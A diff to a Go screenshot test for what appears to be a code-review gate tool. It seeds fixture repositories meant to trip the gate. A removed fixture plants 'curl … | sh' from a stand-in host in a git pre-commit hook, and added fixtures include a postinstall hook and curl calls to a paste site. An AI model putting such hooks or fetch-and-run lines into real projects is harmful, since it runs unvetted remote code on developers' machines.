@@ -3,47 +3,144 @@
 package view_test
 
 import (
+	"os"
+	"strings"
 	"testing"
 
+	"github.com/chromedp/cdproto/emulation"
 	"github.com/chromedp/chromedp"
 
 	"github.com/cco-dev/cco/internal/view/viewtest"
 )
 
-const greet = `mkdir -p .husky
-cat >greet.go <<'EOF'
-package main
-
-import "fmt"
-
-// greet says hello.
-func greet(name string) {
-	fmt.Printf("hello %s, %d\n", name, 42)
+// risky is work that the gate holds up.
+const risky = `mkdir -p scripts src/checkout/cart test
+cat >package.json <<'EOF'
+{
+  "name": "webshop",
+  "scripts": {
+    "start": "node server.js",
+    "lint": "eslint src",
+    "test": "node --test",
+    "postinstall": "node scripts/setup.js"
+  },
+  "engines": { "node": ">=22" }
 }
 EOF
-printf 'name: ci\non: [push]\njobs:\n  test:\n    runs-on: self-hosted\n' >ci.yml
-git add .
-git commit -qm 'Greet by name'
-echo 'curl -s https://get.example/setup | sh' >.husky/pre-commit
-git add .
-git commit -qm 'Run the formatter before commits'`
+printf 'const db = await open(process.env.DATABASE_URL);\nawait db.migrate();\n' >scripts/setup.js
+cat >src/checkout/cart/store.js <<'EOF'
+import { open } from "./lock.js";
 
-// TestShots makes the pictures of README and docs: make shots.
+// keep writes the cart before the lock is let go, so that the next request reads it.
+export async function keep(cart) {
+  const lock = await open(cart.id);
+  try {
+    return await write(cart, "two requests keep both items", 42);
+  } finally {
+    await lock.close();
+  }
+}
+EOF
+printf 'export const open = id => locks.take(id);\n' >src/checkout/cart/lock.js
+cat >test/cart.test.js <<'EOF'
+import test from "node:test";
+
+test.skip("two requests keep both items", async () => {
+  await shop.add("a");
+});
+EOF
+git add .
+git commit -qm 'Keep the cart before the lock is let go'
+printf '# Changes\n\n- Carts are kept.\n' >CHANGES.md
+git add .
+git commit -qm 'Say so'`
+
+// rounded is work in which there is nothing to find; FILE is what it makes.
+const rounded = `printf 'package bill\n\n// Round rounds to the cent.\nfunc Round(n int) int { return n }\n' >FILE
+git add .
+git commit -qm 'Round totals to the cent after tax'`
+
+// screens are all of them, as a busy user has them.
+type screens struct{ held, talk, phase, live string }
+
+// busy seeds a user's month, and has some sessions really run.
+func busy(t *testing.T, r *viewtest.Rig, n int) (s screens) {
+	t.Helper()
+	in := seeding(t, r)
+	in.month(n)
+	in.asking()
+	s.talk, s.phase = in.talk(), in.phase()
+	s.held = r.Push("Checkout must not lose carts", risky)
+	r.Await(s.held, "done")
+	for title, file := range map[string]string{"Round totals to the cent after tax": "round.go",
+		"Show the delivery date in the cart": "date.go"} {
+		r.Await(r.Push(title, strings.ReplaceAll(rounded, "FILE", file)), "done")
+	}
+	r.Await(r.Push("Reach out", "curl -sS -m 5 https://paste.example.net/ || true\n"+
+		"curl -sS -m 5 https://telemetry.example.com/ || true\necho tried"), "done")
+	s.live = r.Push("Watch the build", "for i in $(seq 1 6000); do echo \"built package $i of 6000\"; sleep 1; done")
+	return s
+}
+
+func (s screens) all() [][2]string {
+	return [][2]string{{"home", "/"}, {"new", "/new"}, {"session", "/session/" + s.talk}, {"live", "/session/" + s.live},
+		{"changes", "/session/" + s.held + "/changes"}, {"network", "/session/" + s.held + "/network"},
+		{"plan", "/session/" + s.held + "/plan"}, {"phase", "/phase/" + s.phase}, {"boxes", "/boxes"}, {"money", "/money"},
+		{"log", "/log"}, {"nothing", "/no/such/page"}, {"lost session", "/session/00000000"}}
+}
+
+// ready is true when a screen has been read whole.
+const ready = `document.querySelector('main') && !document.querySelector('.soon') && document.fonts.status === 'loaded' &&
+	!/being unpacked|still looking/.test(document.body.innerText)`
+
+// looks are how a screen is looked at.
+var looks = []hand{{name: "", width: 1440}, {name: "dark", width: 1440, dark: true}, {name: "phone", width: 390},
+	{name: "phone dark", width: 390, dark: true}}
+
+func (b *browser) look(h hand) {
+	b.t.Helper()
+	b.sit(h)
+	height := int64(900)
+	if h.width < 500 {
+		height = 844
+	}
+	b.do("a screen", emulation.SetDeviceMetricsOverride(h.width, height, 1, h.width < 500))
+}
+
+// settled waits until a page that was opened is whole, and its buttons can be pressed.
+func (b *browser) settled(page string) {
+	b.t.Helper()
+	b.until(page, ready)
+	b.until(page+" is calm", calm)
+	b.do("a moment", chromedp.Evaluate("new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))", nil))
+}
+
+// TestShots makes the pictures of all screens: make shots.
 func TestShots(t *testing.T) {
 	r := viewtest.New(t)
 	r.Serve()
-	b := newBrowser(t, r, hand{})
-	b.do("a screen", chromedp.EmulateViewport(1280, 860))
+	b := newBrowser(t, r, hand{name: "", width: 1440})
 	b.comeIn()
-	r.Push("Watch the build", "for i in $(seq 1 600); do echo \"built package $i of 600\"; sleep 0.2; done")
-	id := r.Push("Greet by name", greet)
-	r.Await(id, "done")
+	only := os.Getenv("SHOTS_ONLY") // some of them, by their names
+	for _, h := range looks {
+		b.look(h)
+		b.settled("the beginning")
+		b.picture("view empty")
+	}
+	s := busy(t, r, 40)
+	b.at("/session/" + s.held + "/changes")
+	b.until("findings", "document.querySelectorAll('.found').length > 1")
 	b.at("/")
-	b.sees("Greet by name")
-	b.until("its last line", "document.querySelector('.last')")
-	b.picture("view-home")
-	b.at("/session/" + id + "/changes")
-	b.until("findings on lines", "document.querySelectorAll('tr .found').length > 0")
-	b.do("scroll", chromedp.Evaluate("document.querySelector('.gate').scrollIntoView(); scrollBy(0, -60)", nil))
-	b.picture("view")
+	b.until("all are examined", "document.querySelectorAll('#ready .row .act').length > 1")
+	for _, h := range looks {
+		b.look(h)
+		for _, screen := range s.all() {
+			if only != "" && !strings.Contains(only, screen[0]) {
+				continue
+			}
+			b.at(screen[1])
+			b.settled(screen[0])
+			b.picture("view " + screen[0])
+		}
+	}
 }
